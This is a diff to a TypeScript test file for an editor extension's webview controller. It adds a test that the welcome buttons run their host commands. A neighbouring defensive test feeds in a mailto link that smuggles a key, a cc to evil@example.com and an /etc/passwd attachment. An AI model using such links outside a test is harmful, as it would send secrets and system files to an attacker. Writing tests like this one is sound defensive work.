@@ -367,6 +367,12 @@ test('links: only http/https/mailto reach openExternal; code actions go to the h
   h.controller.dispose();
 });
 
+test("the welcome's buttons: each runs its command in the host", async () => {
+  const h = await harness();
+  for (const action of ['switchProvider', 'setApiKey', 'pickModel', 'openWalkthrough'] as const) await h.controller.handle({ type: 'runAction', action });
+  assert.deepEqual(h.hostCalls, ['command:switchProvider', 'command:setApiKey', 'command:pickModel', 'command:openWalkthrough']);
+});
+
 test('mailto links open with their query stripped: no body, cc, bcc or attach a reply could smuggle in', async () => {
   const h = await harness();
   await h.controller.handle({ type: 'openLink', href: 'mailto:a@example.com?subject=Hi&body=The%20key%20is%20x&cc=evil@example.com&attach=/etc/passwd' });
